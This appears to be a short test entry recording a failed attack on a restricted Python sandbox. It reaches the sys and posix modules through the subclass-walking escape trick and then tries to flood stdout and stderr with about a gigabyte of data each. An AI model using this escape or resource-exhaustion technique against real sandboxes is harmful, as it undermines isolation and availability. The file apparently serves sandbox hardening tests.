# /// attack
# rows = [37]
# title = "write a gigabyte to the standard streams' descriptors"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

posix = sys.modules["posix"]
for _ in range(1000):
    posix.write(1, b"x" * 1_000_000)
    posix.write(2, b"x" * 1_000_000)
